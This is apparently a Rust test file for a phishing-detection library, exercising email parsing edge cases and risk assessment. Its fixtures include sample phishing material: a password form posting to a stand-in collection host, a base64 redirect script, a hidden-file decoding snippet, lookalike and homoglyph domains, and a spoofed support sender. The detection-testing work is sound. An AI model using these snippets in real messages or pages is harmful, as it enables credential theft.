//! Edge cases of `MessageContent::parse`: whatever the input, it returns,
//! keeps what text it can, and says what was wrong in `defects`.

use countersign_model::bounds::{
    MAX_LINK_DOMAINS, MAX_LINKS, MAX_MESSAGE_DEPTH, MAX_MIME_PARTS, MAX_REPLY_TO_ADDRESSES,
    WorkBound,
};
use countersign_risk::{LinkMismatch, MAX_MIME_DEPTH, MessageContent, Rulebook, assess};

fn parse(raw: &str) -> MessageContent {
    MessageContent::parse(raw.as_bytes())
}

#[test]
fn headers_are_read() {
    let c = parse(
        "Return-Path: <bounce@mailer.example>\nFrom: \"Microsoft Support\" <ms.support@freemail.example>\n\
         Sender: relay@mailer.example\nReply-To: a@one.example, b@two.example\nSubject: =?utf-8?q?R=C3=A9initialiser?=\n\nhi\n",
    );
    let from = c.from.as_ref().unwrap();
    assert_eq!(from.name.as_deref(), Some("Microsoft Support"));
    assert_eq!(from.address.as_deref(), Some("ms.support@freemail.example"));
    assert_eq!(c.reply_to, ["a@one.example", "b@two.example"]);
    assert_eq!(c.return_path.as_deref(), Some("bounce@mailer.example"));
    assert_eq!(c.sender.as_deref(), Some("relay@mailer.example"));
    assert_eq!(c.subject.as_deref(), Some("Réinitialiser"));
    assert!(c.defects.is_empty(), "{:?}", c.defects);
}

#[test]
fn empty_and_garbage_input() {
    let c = MessageContent::parse(b"");
    assert_eq!(c.defects, ["no message headers found"]);
    assert!(c.text_parts.is_empty());

    let garbage: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let c = MessageContent::parse(&garbage);
    assert!(!c.defects.is_empty());
}

#[test]
fn missing_from_is_a_defect() {
    let c = parse("Subject: no sender\n\nreset my password\n");
    assert!(c.from.is_none());
    assert!(
        c.defects.iter().any(|d| d.contains("From")),
        "{:?}",
        c.defects
    );
    assert!(assess(&c, &Rulebook::default_rules()).high_risk);
}

#[test]
fn multipart_without_boundary_is_kept_as_text() {
    let c = parse("From: a@b.example\nContent-Type: multipart/mixed\n\nplease reset my password\n");
    assert!(
        c.defects.iter().any(|d| d.contains("no boundary")),
        "{:?}",
        c.defects
    );
    assert!(c.text_parts.iter().any(|t| t.contains("reset my password")));
}

#[test]
fn broken_base64_and_unknown_charset_and_encoding() {
    let c = parse(
        "From: a@b.example\nContent-Type: multipart/mixed; boundary=\"b\"\n\n--b\n\
         Content-Type: text/plain; charset=x-klingon\n\nqapla\n--b\n\
         Content-Type: text/plain\nContent-Transfer-Encoding: x-uuencode\n\nbegin 644\n--b\n\
         Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!! not base64 ****\n--b--\n",
    );
    assert!(
        c.defects.iter().any(|d| d.contains("unknown charset")),
        "{:?}",
        c.defects
    );
    assert!(
        c.defects
            .iter()
            .any(|d| d.contains("Content-Transfer-Encoding")),
        "{:?}",
        c.defects
    );
    assert!(c.text_parts.iter().any(|t| t.contains("qapla")));
}

#[test]
fn invalid_utf8_is_reported() {
    let mut raw =
        b"From: a@b.example\nContent-Type: text/plain; charset=utf-8\n\nreset my pass".to_vec();
    raw.extend_from_slice(&[0xff, 0xfe]);
    raw.extend_from_slice(b"word\n");
    let c = MessageContent::parse(&raw);
    assert!(
        c.defects.iter().any(|d| d.contains("not valid")),
        "{:?}",
        c.defects
    );
}

#[test]
fn deeply_nested_multipart_does_not_panic() {
    let depth = 400;
    let mut raw = String::from("From: a@b.example\nSubject: deep\n");
    for i in 0..depth {
        raw.push_str(&format!(
            "Content-Type: multipart/mixed; boundary=\"b{i}\"\n\n--b{i}\n"
        ));
    }
    raw.push_str("Content-Type: text/plain\n\nplease reset my password\n");
    for i in (0..depth).rev() {
        raw.push_str(&format!("--b{i}--\n"));
    }
    let c = parse(&raw);
    let hit = c
        .work_bounds
        .iter()
        .find(|h| h.bound == WorkBound::MimeDepth)
        .unwrap_or_else(|| panic!("no MIME depth bound hit: {:?}", c.work_bounds));
    assert!(hit.count > MAX_MIME_DEPTH, "{hit}");
    assert!(c.text_parts.iter().any(|t| t.contains("reset my password")));
}

#[test]
fn deeply_nested_messages_do_not_panic() {
    let mut raw = String::from("From: a@b.example\nSubject: inner\n\nplease reset my password\n");
    for _ in 0..50 {
        raw = format!(
            "From: a@b.example\nSubject: fwd\nContent-Type: multipart/mixed; boundary=\"q\"\n\n--q\nContent-Type: message/rfc822\n\n{raw}\n--q--\n"
        );
    }
    let c = parse(&raw);
    let hit = c
        .work_bounds
        .iter()
        .find(|h| h.bound == WorkBound::MessageDepth)
        .unwrap_or_else(|| panic!("no message depth bound hit: {:?}", c.work_bounds));
    assert!(hit.count > MAX_MESSAGE_DEPTH, "{hit}");
}

#[test]
fn parts_links_and_reply_to_past_their_bounds_are_counted() {
    let mut raw = String::from("From: a@b.example\nReply-To: ");
    let reply: Vec<String> = (0..MAX_REPLY_TO_ADDRESSES + 5)
        .map(|i| format!("r{i}@c{i}.example"))
        .collect();
    raw.push_str(&reply.join(", "));
    raw.push_str("\nContent-Type: multipart/mixed; boundary=\"p\"\n\n");
    // One HTML part with more links than are examined, over more distinct
    // hosts than are kept, then more parts than are read.
    raw.push_str("--p\nContent-Type: text/html\n\n");
    for i in 0..MAX_LINKS + 10 {
        raw.push_str(&format!("<a href=\"https://h{i}.example/\">x</a>\n"));
    }
    for i in 0..MAX_MIME_PARTS {
        raw.push_str(&format!("--p\nContent-Type: text/plain\n\npart {i}\n"));
    }
    raw.push_str("--p--\n");
    let c = parse(&raw);
    let count = |bound: WorkBound| {
        c.work_bounds
            .iter()
            .find(|h| h.bound == bound)
            .map(|h| h.count)
            .unwrap_or_else(|| panic!("no {bound} bound hit: {:?}", c.work_bounds))
    };
    assert_eq!(
        count(WorkBound::ReplyToAddresses),
        MAX_REPLY_TO_ADDRESSES + 5
    );
    assert_eq!(c.reply_to.len(), MAX_REPLY_TO_ADDRESSES);
    assert_eq!(count(WorkBound::Links), MAX_LINKS + 10);
    assert_eq!(count(WorkBound::LinkDomains), MAX_LINKS);
    assert_eq!(c.link_domains.len(), MAX_LINK_DOMAINS);
    assert_eq!(c.link_domains[0], "h0.example");
    assert!(count(WorkBound::MimeParts) > MAX_MIME_PARTS);
    assert!(
        !c.text_parts
            .iter()
            .any(|t| t.contains(&format!("part {}", MAX_MIME_PARTS - 1)))
    );
}

#[test]
fn ordinary_mail_hits_no_bound() {
    let c = parse(
        "From: a@b.example\nReply-To: r@b.example\nContent-Type: text/html\n\n<a href=\"https://b.example/\">b.example</a>\n",
    );
    assert!(c.work_bounds.is_empty(), "{:?}", c.work_bounds);
}

#[test]
fn huge_header_and_body() {
    let mut raw = String::from("From: a@b.example\nSubject: ");
    raw.push_str(&"x".repeat(2_000_000));
    raw.push_str("\nX-Long: ");
    for _ in 0..50_000 {
        raw.push_str("folded\n ");
    }
    raw.push_str("end\n\nreset my password\n");
    let c = parse(&raw);
    assert_eq!(c.subject.as_ref().map(String::len), Some(2_000_000));
    assert!(assess(&c, &Rulebook::default_rules()).high_risk);
}

#[test]
fn attachments_links_phones_and_emails() {
    let c = parse(
        "From: a@b.example\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\nContent-Type: text/html\n\n\
         <p>Sign in at <a href=\"https://login-microsoft.example/x\">https://login.microsoftonline.com</a>\n\
         or <a href=\"https://www.acme.example/\">acme.example</a> or <a href=\"HTTPS://XN--80AK6AA92E.example/\">here</a>.\n\
         Call +44 20 7946 0958 or <a href=\"tel:+1-800-555-0199\">us</a>; mail <a href=\"mailto:Help@Evil.example\">help</a>.</p>\n\
         <img src=\"//cdn.tracker.example/p.gif\">\n--m\n\
         Content-Type: application/pdf; name=\"invoice.pdf\"\nContent-Disposition: attachment; filename=\"invoice.pdf\"\n\
         Content-Transfer-Encoding: base64\n\nJVBERg==\n--m--\n",
    );
    assert_eq!(c.attachments.len(), 1);
    assert_eq!(c.attachments[0].name.as_deref(), Some("invoice.pdf"));
    assert_eq!(c.attachments[0].content_type, "application/pdf");
    for host in [
        "login-microsoft.example",
        "www.acme.example",
        "xn--80ak6aa92e.example",
        "cdn.tracker.example",
        "login.microsoftonline.com",
    ] {
        assert!(
            c.link_domains.iter().any(|d| d == host),
            "{host} not in {:?}",
            c.link_domains
        );
    }
    assert_eq!(
        c.link_mismatches,
        [LinkMismatch {
            visible: "login.microsoftonline.com".into(),
            target: "login-microsoft.example".into()
        }]
    );
    assert!(
        c.phone_numbers.contains(&"+442079460958".to_owned()),
        "{:?}",
        c.phone_numbers
    );
    assert!(
        c.phone_numbers.contains(&"+18005550199".to_owned()),
        "{:?}",
        c.phone_numbers
    );
    assert!(
        c.body_emails.contains(&"help@evil.example".to_owned()),
        "{:?}",
        c.body_emails
    );
    assert!(c.defects.is_empty(), "{:?}", c.defects);
}

#[test]
fn unicode_link_hosts_become_a_labels() {
    let c = parse("From: a@b.example\n\nvisit https://micrоsoft.example/login today\n");
    assert_eq!(c.link_domains, ["xn--micrsoft-qbh.example"]);
}

#[test]
fn from_text_extracts_indicators_and_assesses() {
    let c = MessageContent::from_text(
        "Callback",
        "Please call us at +1 800 555 0199 immediately to unlock your account.",
    );
    assert_eq!(c.phone_numbers, ["+18005550199"]);
    let risk = assess(&c, &Rulebook::default_rules());
    let cats: Vec<_> = risk.categories().iter().map(|c| c.as_str()).collect();
    assert_eq!(cats, ["urgency", "callback_bait"], "{:?}", risk.findings);
    let bait = risk
        .findings
        .iter()
        .find(|f| f.category.as_str() == "callback_bait")
        .unwrap();
    assert_eq!(bait.evidence.indicator.as_deref(), Some("+18005550199"));
}

#[test]
fn arbitrary_bytes_never_panic() {
    // A cheap stand-in for a fuzzer: mutate a real multipart message.
    let base = b"From: a@b.example\nContent-Type: multipart/mixed; boundary=\"b\"\n\n--b\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n<a href=3D\"https://x.example\">x&#8203;</a> =C3=A9 +49 30 1234567\n--b\nContent-Type: message/rfc822\n\nFrom: c@d.example\n\nhi\n--b--\n";
    let rules = Rulebook::default_rules();
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..2000 {
        let mut raw = base.to_vec();
        for _ in 0..8 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let at = (state as usize) % raw.len();
            raw[at] = (state >> 32) as u8;
        }
        let c = MessageContent::parse(&raw);
        let _ = assess(&c, &rules);
    }
}

/// A message with one attachment: `headers` are the part's own.
fn with_attachment(headers: &str, body: &str) -> MessageContent {
    parse(&format!(
        "From: a@b.example\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\nContent-Type: text/plain\n\n\
         See the file.\n--m\n{headers}\n\n{body}\n--m--\n"
    ))
}

#[test]
fn an_attached_page_is_read_for_what_it_does() {
    use countersign_risk::ActivePage;
    // A form with a password field, quoted and spaced any way.
    let c = with_attachment(
        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Statement.htm\"",
        "<FORM method=post action = 'https://collect.example/s'><input TYPE = 'Password' name=p></FORM>",
    );
    let page = c.attachments[0].page.expect("a sign-in page");
    assert!(page.password_field && page.form_to_site && page.asks_sign_in());
    assert_eq!(page.describe(), "has a password field");
    // A script that leaves as it opens, named .html but sent as bytes,
    // base64 as files are.
    let c = with_attachment(
        "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"fax.html\"\n\
         Content-Transfer-Encoding: base64",
        "PHNjcmlwdD5kb2N1bWVudC5sb2NhdGlvbj0naHR0cHM6Ly9leC5leGFtcGxlLyc8L3NjcmlwdD4=",
    );
    let page = c.attachments[0].page.expect("a redirecting page");
    assert!(page.redirects && !page.asks_sign_in());
    // A page that assembles a file from a string it carries.
    let c = with_attachment(
        "Content-Type: text/html; name=\"doc.html\"",
        "<script>var b = new Blob([atob(x)]); URL.createObjectURL(b)</script>",
    );
    assert!(c.attachments[0].page.is_some_and(|p| p.decodes_hidden));
    // A report a tool saved as HTML, a form that posts nowhere, and a PDF
    // that happens to hold the words: they only show themselves.
    for (headers, body) in [
        (
            "Content-Type: text/html; name=\"disk-report.html\"",
            "<html><h1>Volumes</h1><table><tr><td>C:</td><td>81 %</td></tr></table></html>",
        ),
        (
            "Content-Type: text/html; name=\"order.html\"",
            "<form><input name=qty> <button>Print</button></form>",
        ),
        (
            "Content-Type: application/pdf; name=\"note.pdf\"",
            "type=password window.location",
        ),
    ] {
        let c = with_attachment(headers, body);
        assert_eq!(c.attachments[0].page, None::<ActivePage>, "{headers}");
    }
}

#[test]
fn an_attached_sign_in_page_is_a_request_for_credentials() {
    let c = with_attachment(
        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Voice_0412.html\"",
        "<form action=\"https://voice-play.example/in\"><input name=u><input name=k type=password></form>",
    );
    let a = assess(&c, &Rulebook::default_rules());
    let hit = a
        .findings
        .iter()
        .find(|f| f.rule == "attachment.sign_in_page")
        .expect("a finding");
    assert_eq!(
        hit.category,
        countersign_risk::RiskCategory::CredentialReset
    );
    assert_eq!(hit.evidence.matched, "Voice_0412.html");
    // A page that only redirects is no sign-in of its own.
    let c = with_attachment(
        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Voice_0412.html\"",
        "<meta http-equiv=\"refresh\" content=\"0; url=https://voice-play.example/\">",
    );
    assert!(
        !assess(&c, &Rulebook::default_rules())
            .findings
            .iter()
            .any(|f| f.rule == "attachment.sign_in_page")
    );
}
